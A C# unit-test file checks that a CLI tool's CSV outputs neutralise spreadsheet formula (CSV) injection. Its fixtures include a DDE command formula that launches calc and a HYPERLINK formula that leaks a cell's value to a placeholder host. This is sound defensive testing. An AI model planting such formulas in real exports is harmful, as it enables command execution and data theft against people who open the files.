using System.Text.Json;
using Centric.Testing;
using Microsoft.Extensions.Time.Testing;

namespace Centric.Cli.Tests.Commands;

/// <summary>
/// Exports holding spreadsheet formulas (CSV injection) come out of <c>centric compute</c> as text a spreadsheet
/// shows and never evaluates, in every CSV it writes; the JSON keeps the values exactly as they were.
/// </summary>
public class ComputeCsvSafetyTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1;\"click\")";
    private const string Command = "=cmd|' /C calc'!A0";

    private static readonly FakeTimeProvider Clock = new(new DateTimeOffset(2026, 3, 1, 12, 0, 0, TimeSpan.Zero));

    private static string Quoted(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static TempFolder HostileExports() => new TempFolder("hostile")
        .Write(
            "orders/2025-01.csv",
            "order_id,customer_id,order_date,amount,currency,status",
            $"O1,{Quoted(Command)},2025-01-05,100.00,EUR,completed",
            $"O2,C2,2025-01-06,{Quoted(Hyperlink)},EUR,completed",
            "O3,+1,2025-01-07,20,EUR,completed",
            "O4,@SUM(A1),2025-01-08,30,EUR,completed",
            "O5,C5,2025-01-09,@SUM(A1),EUR,completed",
            "O6,C6,2025-01-10,+1,EUR,=1+2",
            "\"\tO7\",C7,2025-01-11,5,EUR,completed,\"\tleading tab\"",
            "\"\rO8\",C8,2025-01-12,\"\r-2x\",EUR,completed,\"\rleading CR\"",
            $"O9,{Quoted(Command)},2025-02-03,40.00,EUR,completed")
        .Write(
            "customers/customers.csv",
            "customer_id,country",
            $"{Quoted(Command)},=1+2",
            "+1,@SUM(A1)",
            "@SUM(A1),+1",
            "C2,-1");

    [Fact]
    public void Compute_HostileExports_NoCellOfAnyCsvOutputIsAFormula()
    {
        using var exports = HostileExports();
        var output = exports.Beside("out");

        var run = CliRun.Of(Clock, "compute", "--exports", exports.Root, "--out", output);

        Assert.True(run.ExitCode == 0, run.Err);
        var files = Directory.GetFiles(output, "*.csv", SearchOption.AllDirectories);
        Assert.Superset(
            new HashSet<string>(["snapshots.csv", "scores.csv", "rejects.csv", "cohorts.csv", "new-customers.csv", "active-customers.csv"]),
            files.Select(Path.GetFileName).ToHashSet()!);
        Assert.All(files, file => Assert.Empty(CsvTable.Formulas(File.ReadAllText(file))));
    }

    [Fact]
    public void Compute_HostileExports_FormulasAreWrittenAsGuardedTextInCsvAndExactlyInJson()
    {
        using var exports = HostileExports();
        var output = exports.Beside("out");

        Assert.Equal(0, CliRun.Of(Clock, "compute", "--exports", exports.Root, "--out", output).ExitCode);

        var scores = CsvTable.Parse(File.ReadAllText(Path.Combine(output, "scores.csv")));
        Assert.Contains(scores, r => r[0] == "'" + Command);
        Assert.Contains(scores, r => r[0] == "'+1");
        Assert.Contains(scores, r => r[0] == "'@SUM(A1)");
        var rejects = CsvTable.Parse(File.ReadAllText(Path.Combine(output, "rejects.csv")));
        Assert.Equal(["file", "line", "column", "value", "reason"], rejects[0]);
        Assert.Contains(rejects, r => r[3] == "'" + Hyperlink);
        Assert.Contains(rejects, r => r[3] == "'@SUM(A1)");
        Assert.Contains(rejects, r => r[3].StartsWith("'\tO7", StringComparison.Ordinal));
        var snapshots = CsvTable.Parse(File.ReadAllText(Path.Combine(output, "snapshots.csv")));
        Assert.Contains(snapshots, r => r[6] == "country:=1+2");
        Assert.All(snapshots.Skip(1), r => Assert.Equal(19, r.Length));

        var json = JsonDocument.Parse(File.ReadAllText(Path.Combine(output, "snapshots.json"))).RootElement;
        Assert.Contains(json.EnumerateArray(), r => r.GetProperty("segment").GetString() == "country:=1+2");
        Assert.Contains(json.EnumerateArray(), r => r.GetProperty("segment").GetString() == "country:@SUM(A1)");
    }

    [Fact]
    public void Compute_TenMegabyteRejectedValue_IsCutTo200CharactersWithItsLength()
    {
        var huge = new string('x', 10 * 1024 * 1024);
        using var exports = new TempFolder("huge").Write(
            "orders/2025-01.csv",
            "order_id,customer_id,order_date,amount",
            "O1,C1,2025-01-05,=" + huge[1..],
            "O2,C1,2025-01-06,5");
        var output = exports.Beside("out");

        Assert.Equal(0, CliRun.Of(Clock, "compute", "--exports", exports.Root, "--out", output).ExitCode);

        var path = Path.Combine(output, "rejects.csv");
        Assert.True(new FileInfo(path).Length < 2048, "rejects.csv holds the cut value, not 10 MB");
        var record = CsvTable.Parse(File.ReadAllText(path))[1];
        var shown = "'=" + huge[1..200] + "…(10485760 characters)";
        Assert.Equal(["orders/2025-01.csv", "2", "amount", shown], record[..4]);
        Assert.StartsWith("amount '=" + huge[1..200] + "…(10485760 characters)' is not a number", record[4], StringComparison.Ordinal);
    }
}
